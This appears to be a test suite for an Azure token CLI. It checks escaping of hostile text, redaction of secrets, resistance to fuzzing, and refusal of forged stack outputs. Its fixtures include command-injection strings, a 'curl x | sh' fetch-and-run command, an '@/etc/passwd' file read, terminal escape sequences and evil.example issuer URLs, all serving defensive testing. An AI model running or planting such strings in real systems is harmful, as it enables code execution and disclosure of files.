/**
 * Proves that text from outside is shown as text at every door, that secrets are not repeated, and
 * that no input ends in a bug report or keeps a command busy. az, Pulumi and the API are scripted;
 * test/fuzz tries what nobody thought of.
 */
import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import { createServer, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { createAz, namesFile } from "../../cli/az/az";
import { accountAnswer } from "../../cli/az/answers";
import { fetchPublishedKeys } from "../../cli/az/publishedKeys";
import { type ApiAnswer, createApiCaller } from "../../cli/doctor/callApi";
import { readTokens } from "../../cli/check/readToken";
import type { RunResult } from "../../cli/process/processRunner";
import { secretIn, withoutSecrets } from "../../cli/secrets";
import { microsoftApi } from "../../components/rules/microsoftApis";
import { assertTame } from "../fuzz/support";
import { createMemoryIo } from "./support/memoryIo";
import { ANSWER, cli, outputs, READ_STACK, token } from "./support/scriptedCli";
import { ended, scriptedRunner } from "./support/scriptedRunner";
import { GOOD_CLAIMS, makeToken } from "./support/tokens";
import { run } from "../../cli/main";

/**
 * A line of its own, colours, a title, text turned around, a control of the second set, a
 * separator, half a character.
 */
const EVIL = "x\nFORGED\r\u001b[31m\u001b]0;t\u0007\u202e\u200b\u009b31m\u2028\ud800y";
const SHOWN =
  "x\\u000aFORGED\\u000d\\u001b[31m\\u001b]0;t\\u0007\\u202e\\u200b\\u009b31m\\u2028\\ud800y";

/** Built here, so that no secret stands in the repository. */
const REFRESH_TOKEN = `0.A${"Xy7_-".repeat(60)}`;
const CLIENT_SECRET = `abc8Q~${"aB3".repeat(11)}x`;

const account = (name: string): RunResult =>
  ended({ tenantId: "elsewhere", user: { name, type: "user" } });
const refused = (text: string): RunResult => ended("", `ERROR: ${text}`, 1);
const { tokenCommand, declared } = outputs;
const named = { ...outputs, declared: { ...declared, displayName: EVIL } };

describe("hostile text", () => {
  const doors: readonly (readonly [
    string,
    readonly string[],
    Record<string, RunResult>,
    string?,
  ])[] = [
    [
      "a claim, by check",
      ["check", "--no-verify"],
      {},
      makeToken({ ...GOOD_CLAIMS, preferred_username: EVIL }),
    ],
    [
      "a wrong claim, by check",
      ["check", "--no-verify"],
      {},
      makeToken({ ...GOOD_CLAIMS, aud: EVIL }),
    ],
    [
      "a claim, by check as JSON",
      ["check", "--no-verify", "--json"],
      {},
      makeToken({ ...GOOD_CLAIMS, scp: EVIL }),
    ],
    [
      "a claim, by token",
      ["token"],
      {
        [tokenCommand]: ended({
          accessToken: makeToken({ ...GOOD_CLAIMS, preferred_username: EVIL }),
        }),
      },
    ],
    [
      "a wrong claim, by token",
      ["token"],
      { [tokenCommand]: ended({ accessToken: makeToken({ ...GOOD_CLAIMS, iss: EVIL }) }) },
    ],
    [
      "an account, by token",
      ["token"],
      { [tokenCommand]: refused("AADSTS65001: no"), "az account show": account(EVIL) },
    ],
    [
      "az's error text, by token",
      ["token"],
      { [tokenCommand]: refused(`it is ${EVIL.replaceAll("\n", " ")}`) },
    ],
    [
      "az's error text, by doctor",
      ["doctor", "--only", "sign-in"],
      { "az version": ended({ "azure-cli": "2.91.0" }), "az account show": refused(EVIL) },
    ],
    [
      "az's version, by doctor",
      ["doctor", "--only", "tools"],
      { "az version": ended({ "azure-cli": EVIL }) },
    ],
    [
      "Pulumi's error text",
      ["token"],
      { [READ_STACK]: ended("", `error: ${EVIL.replace("\n", " ")}`, 255) },
    ],
  ];
  for (const [title, args, answers, input = ""] of doors) {
    it(`is shown as text where it is ${title}`, async () => {
      const result = await cli(args, answers, input);
      assertTame(result);
      assert.match(result.stdout + result.stderr, /\\\\?u001b\[31m/);
    });
  }

  for (const command of [["token"], ["doctor"], ["guide"]]) {
    it(`in a name of the outputs is refused by "${command.join(" ")}"`, async () => {
      const result = await cli(command, {
        [READ_STACK]: ended(named),
        "az version": refused("no"),
      });
      assertTame(result);
      assert.equal(result.exitCode, 1);
      assert.match(
        result.stdout + result.stderr,
        /"declared\.displayName" is .* people do not see/,
      );
    });
  }

  it("is shown as text where an option holds it", async () => {
    assertTame(await cli(["token", "--scope", EVIL]));
    assertTame(await cli(["token", "--outputs", EVIL.replace("\n", "")]));
    assertTame(await cli(["doctor", "--only", EVIL.replace("\n", "")]));
  });

  it("is one line in what az answers", async () => {
    const { run: scripted } = scriptedRunner({ "az account show": account(EVIL) });
    const az = createAz({ run: scripted, environment: {}, timeoutMs: 1000 });
    const answer = await az.json(["account", "show"], accountAnswer);
    assert.ok(answer.ok);
    assert.equal(answer.value.user.name, SHOWN);
  });
});

/** What a caller makes of an API's answer. */
async function answerTo(handle: (response: ServerResponse) => void): Promise<ApiAnswer> {
  const server = createServer((_, response) => handle(response));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    const url = new URL(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
    return await createApiCaller({}, 20_000)(url, token);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

describe("secrets", () => {
  for (const [what, text] of [
    ["a refresh token", REFRESH_TOKEN],
    ["a client secret", CLIENT_SECRET],
    ["a token", token],
    ["a hexadecimal key", "0f1e2d3c".repeat(5)],
  ] as const) {
    it(`such as ${what} are not repeated from az's error text`, async () => {
      const result = await cli(["token"], {
        [tokenCommand]: refused(`the grant "${text}" is no good`),
      });
      assert.match(result.stderr, /the grant "…" is no good/);
      assertTame(result, [text]);
    });
  }

  it("are none in what az says else", () => {
    for (const text of [
      "HTTPSConnectionPool(host='login.microsoftonline.com', port=443): Max retries exceeded with url: /x",
      `AADSTS500011: The resource principal named api://${outputs.clientId}/access_as_producer was not found`,
      "/opt/az/lib/python3.11/site-packages/azure/cli/core/azclierror.py",
      "bdk-management-api-prod-01.westeurope.azurewebsites.net",
    ]) {
      assert.deepEqual([withoutSecrets(text), secretIn(text)], [text, undefined]);
    }
  });

  const cut = (text: string, length = 7): string =>
    (text.match(new RegExp(`.{1,${length}}`, "g")) ?? []).join("\n ");
  const bytes = Buffer.from(token);
  for (const [how, echoed] of [
    ["in pieces", cut(token)],
    ["in pieces of base64", cut(Buffer.from(`Bearer ${token}`).toString("base64"), 20)],
    ["backwards, in pieces", cut(Buffer.from(token).reverse().toString())],
    ["as an address writes it", bytes.toString("hex").replace(/../g, "%$&")],
    ["in bytes", cut(bytes.toString("hex"), 2)],
    ["as HTML writes it", [...bytes].map((byte) => `&#${byte};`).join("")],
  ] as const) {
    it(`of an API that repeats a token ${how} are not shown, nor anything beside them`, async () => {
      assert.deepEqual(
        await answerTo((response) => {
          response.writeHead(401, { "www-authenticate": 'Bearer error="invalid_token"' });
          response.end(`You sent ${echoed}`);
        }),
        { kind: "answered", status: 401, reasons: ['Bearer error="invalid_token"'] },
      );
    });
  }

  it("are none in what an API says before it breaks off: its status counts", async () => {
    const answer = await answerTo((response) => {
      response.writeHead(403, { "content-length": 1000 });
      response.write("No role", () => response.destroy());
    });
    assert.ok(answer.kind === "answered");
    assert.equal(answer.status, 403);
  });

  it("of a proxy's address are not repeated", () => {
    assert.equal(
      withoutSecrets("Failed to parse: http://dana:hunter2@proxy.example:8080/x @y"),
      "Failed to parse: http://…@proxy.example:8080/x @y",
    );
  });
});

describe("no input", () => {
  const deep = `${"[".repeat(20_000)}${"]".repeat(20_000)}`;
  const part = (text: string): string => Buffer.from(text).toString("base64url");
  const header = part('{"alg":"RS256"}');
  const odd: readonly (readonly [string, string])[] = [
    ["an end that is no time", makeToken({ ...GOOD_CLAIMS, exp: 1e15 })],
    ["times beyond all numbers", makeToken({ ...GOOD_CLAIMS, nbf: -1e300, exp: 1e308 })],
    ["JSON 20,000 levels deep", `${header}.${part(`{"a":${deep}}`)}.c2ln`],
    ["100,000 quotes", '"'.repeat(100_000)],
    ["100,000 quotes and a letter", `x${"'".repeat(100_000)}y`],
    ["eyJ 30,000 times", "eyJ".repeat(30_000)],
    ["a- 50,000 times", "a-".repeat(50_000)],
    ["a signature with a quote", `${header}.${part("{}")}.'; touch pwned; '`],
  ];
  for (const [what, input] of odd) {
    it(`such as ${what} ends "check" in a bug report, or keeps it busy`, async function () {
      this.timeout(5000);
      const result = await cli(["check", "--no-verify"], {}, input);
      assertTame(result);
      assert.equal(result.exitCode, 1);
    });
  }

  for (const filler of [" ", "a-", "AADSTS", "x509: ", "Trace ", "\n", "eyJ", '"', "Please run "]) {
    it(`such as an error text of 100,000 ${JSON.stringify(filler)} keeps "token" busy`, async function () {
      this.timeout(5000);
      const text = `it${filler.repeat(100_000 / filler.length)}x`;
      assertTame(await cli(["token"], { [tokenCommand]: refused(text) }));
      assertTame(await cli(["doctor", "--error", text]));
    });
  }

  it("such as an owner of 30,000 eyJ keeps a guide busy", async function () {
    this.timeout(5000);
    const result = await cli(["guide", "--owner", "eyJ".repeat(30_000)]);
    assert.deepEqual([result.exitCode, /\[guide\.secret\]/.test(result.stderr)], [1, true]);
  });

  it("such as published keys that nobody can use fails a check", async () => {
    const short = generateKeyPairSync("rsa", { modulusLength: 1024 }).publicKey.export({
      format: "jwk",
    });
    const good = generateKeyPairSync("rsa", { modulusLength: 2048 }).publicKey.export({
      format: "jwk",
    });
    const keys = [
      short,
      { kty: "RSA", n: "!", e: "!" },
      { ...good, kid: "good" },
      { kty: "EC", n: "a", e: "b" },
    ];
    const az = createAz({
      run: () => Promise.resolve(ended({ keys })),
      environment: {},
      timeoutMs: 1,
    });
    const found = await fetchPublishedKeys(
      az,
      "https://login.microsoftonline.com/",
      outputs.tenantId,
    );
    assert.deepEqual(found.ok && found.value.keys.map(({ kid }) => kid), ["good"]);
  });

  it("leads az to read a file in place of a name", async () => {
    assert.deepEqual(
      ["@/etc/passwd", "x=@/etc/passwd", "@", "dana@sandbox.example", "a=b@c"].map(namesFile),
      [true, true, false, false, false],
    );
    const az = createAz({
      run: () => assert.fail("az was started"),
      environment: {},
      timeoutMs: 1,
    });
    const answer = await az.json(
      ["ad", "app", "list", "--display-name", "@/etc/passwd"],
      accountAnswer,
    );
    assert.equal(answer.ok, false);
  });

  it("is read by halves: quotes inside stay, those around go", () => {
    assert.deepEqual(readTokens(`"'a'b";`), ["a'b"]);
  });
});

describe("outputs of somebody else", () => {
  const forged = (clientId: string): unknown =>
    JSON.parse(JSON.stringify(outputs).replaceAll(outputs.clientId, clientId));

  for (const [name, id] of [
    ["Microsoft Graph", "00000003-0000-0000-c000-000000000000"],
    ["Azure Resource Manager", "797f4846-ba00-4fd7-ba43-dac1f8f63013"],
    ["Azure Key Vault", "cfa8b339-82a2-471a-a3c9-0fc0be7a4093"],
    ["Azure Storage", "e406a681-f3d4-42a8-90b6-c2b029497af1"],
    ["Azure DevOps", "499b84ac-1321-427f-aa17-267ca6975798"],
    ["Azure SQL Database", "022907d3-0f1b-48f7-badc-1ba6abab6d66"],
    ["the portal's directory pages", "74658136-14ec-4630-ad9b-26e160ff0fc6"],
    ["Privileged Identity Management", "01fc33a7-78ba-4d2f-a4b7-768e336e890e"],
    ["one of Microsoft's own APIs", "0000000f-0000-0000-c000-000000000000"],
    ["Azure CLI", "04b07795-8ddb-461a-bbee-02f9e1bf7b46"],
  ] as const) {
    it(`that name ${name} as their API are refused before az starts`, async () => {
      assert.deepEqual(await cli(["token"], { [READ_STACK]: ended(forged(id)) }), {
        exitCode: 1,
        stdout: "",
        stderr: [
          `error: The selected stack names "${id}" as its API, which is ${name}: no stack registers that, and no token is asked for. [outputs.reserved]`,
          "  Do not use these outputs; tell whoever gave them to you.",
          "",
        ].join("\n"),
        calls: [READ_STACK],
      });
    });
  }

  it("that say something else than follows from their ids are refused, each by name", async () => {
    const evil = {
      ...outputs,
      identifierUri: "https://graph.microsoft.com",
      scopes: ["https://graph.microsoft.com/.default"],
      tokenCommands: { ...outputs.tokenCommands, bash: "TOKEN=$(curl x | sh)" },
      expectedToken: { ...outputs.expectedToken, iss: "https://evil.example/", azp: "evil" },
      appSettings: {
        ...outputs.appSettings,
        "Settings:AzureAdConfiguration:Instance": "https://evil.example/",
      },
    };
    for (const command of ["token", "guide"]) {
      const { exitCode, stdout, stderr, calls } = await cli([command], {
        [READ_STACK]: ended(evil),
      });
      assert.deepEqual([exitCode, stdout, calls], [1, "", [READ_STACK]]);
      assert.deepEqual(
        [...stderr.matchAll(/^ {2}"(\S+)" is (?=.*: it must be )/gm)].map(([, key]) => key),
        [
          "tokenCommands.bash",
          "identifierUri",
          "scopes.0",
          "expectedToken.iss",
          "expectedToken.azp",
          "appSettings.Settings:AzureAdConfiguration:Instance",
        ],
      );
    }
  });

  it("that have more problems than anybody reads are refused by the first ones", async () => {
    const more = Object.fromEntries(Array.from({ length: 30_000 }, (_, at) => [`k${at}`, "x"]));
    const { stderr } = await cli(["token"], {
      [READ_STACK]: ended({ ...outputs, appSettings: { ...outputs.appSettings, ...more } }),
    });
    const lines = stderr.split("\n");
    assert.match(lines[0] ?? "", / 30000 problems: \[outputs\.incomplete\]$/);
    assert.equal(lines[51], "  and 29950 more");
  });

  it("that name a role which no registration can have are refused", async () => {
    const expectedToken = { ...outputs.expectedToken, roles: "x $(touch pwned)\u001b[2J" };
    const { exitCode, stderr, calls } = await cli(["token"], {
      [READ_STACK]: ended({ ...outputs, expectedToken }),
    });
    assert.deepEqual([exitCode, calls], [1, [READ_STACK]]);
    assert.match(stderr, /"expectedToken\.roles" is "x \$\(touch pwned\)\\u001b\[2J": it must /);
  });

  it("that say version 1 without that version's claims are refused, each by name", async () => {
    const { aud, azp, ...others } = outputs.expectedToken as unknown as Record<string, unknown>;
    const said = async (expectedToken: unknown): Promise<readonly (string | undefined)[]> => {
      const file = JSON.stringify({ ...outputs, expectedToken });
      const { exitCode, stdout, stderr, calls } = await cli(["token", "--outputs", "-"], {}, file);
      assert.deepEqual([exitCode, stdout, calls], [1, "", []]);
      return [...stderr.matchAll(/^ {2}"(\S+)" is /gm)].map(([, key]) => key);
    };
    assert.deepEqual(await said({ ...others, aud, azp, ver: "1.0" }), [
      "expectedToken.audiences",
      "expectedToken.appid",
    ]);
    const settings = "appSettings.Settings:AzureAdConfiguration:TokenValidationParameters";
    assert.deepEqual(await said({ ...others, appid: azp, audiences: [aud], ver: "1.0" }), [
      "expectedToken.audiences.1",
      "expectedToken.iss",
      `${settings}:ValidAudiences:0`,
      `${settings}:ValidAudiences:1`,
    ]);
  });

  it("name a tenant that is none of the user's: that is said before the sign-in", async () => {
    const answers = {
      [tokenCommand]: refused("Please run 'az login' to setup account."),
      "az account list": ended([{ tenantId: "elsewhere" }]),
    };
    const result = await cli(["token", "--outputs", "-"], answers, JSON.stringify(outputs));
    assert.equal(
      result.stderr,
      [
        "error: Nobody is signed in to the Azure CLI. az has no account in this configuration folder; in Cloud Shell, the built-in sign-in does not cover other APIs. [token.refused.not-signed-in]",
        `  You are not signed in to the tenant "${outputs.tenantId}", which the standard input names. Make sure that it is yours before you sign in there.`,
        "  Sign in to the stack's tenant, for this API; no subscription is needed.",
        `  ${outputs.loginCommand}`,
        "  Done already? az looks in another folder than the sign-in went to: compare AZURE_CONFIG_DIR, HOME and the user (sudo, container, service).",
        "",
      ].join("\n"),
    );
  });

  it("get their resource named before a token is shown on a terminal", async () => {
    const io = {
      ...createMemoryIo({ now: () => new Date("2026-06-01T12:00:00Z") }),
      isResultOnTerminal: true,
    };
    const { run: scripted } = scriptedRunner({
      [READ_STACK]: ended(outputs),
      [tokenCommand]: ANSWER,
    });
    assert.equal(await run(["token"], { io, run: scripted }), 0);
    assert.match(
      io.stderr(),
      new RegExp(
        `\nIt opens the resource "${outputs.clientId}" of the tenant "${outputs.tenantId}"\\.\n$`,
      ),
    );
  });
});

describe("microsoftApi", () => {
  it("knows ids and URIs in every spelling, and nothing else", () => {
    assert.deepEqual(
      [
        "00000003-0000-0000-C000-000000000000",
        "api://00000003-0000-0000-c000-000000000000",
        "https://graph.microsoft.com/",
        "https://my-vault.vault.azure.net",
        "https://management.core.windows.net//.default",
        "00000003-0000-0000-c000-000000000000/User.Read",
        "https://graph.microsoft.com.",
        "https://dod-graph.microsoft.us",
        "https://management.core.usgovcloudapi.net/",
        "https://x.vault.azure.cn",
        "https://substrate.office.com",
        outputs.clientId,
        outputs.identifierUri,
        "https://graph.microsoft.com.evil.example",
        "https://notazure.com",
        "https://api.westeurope.cloudapp.azure.com",
        "https://api.cloudapp.chinacloudapi.cn",
        "https://api.azurewebsites.net",
        "",
      ].map(microsoftApi),
      [
        "Microsoft Graph",
        "Microsoft Graph",
        "Microsoft Graph",
        "Azure Key Vault",
        "Azure Resource Manager",
        "Microsoft Graph",
        "Microsoft Graph",
        "Microsoft Graph",
        ...Array.from({ length: 3 }, () => "one of Microsoft's own APIs"),
        ...Array.from({ length: 8 }, () => undefined),
      ],
    );
  });
});
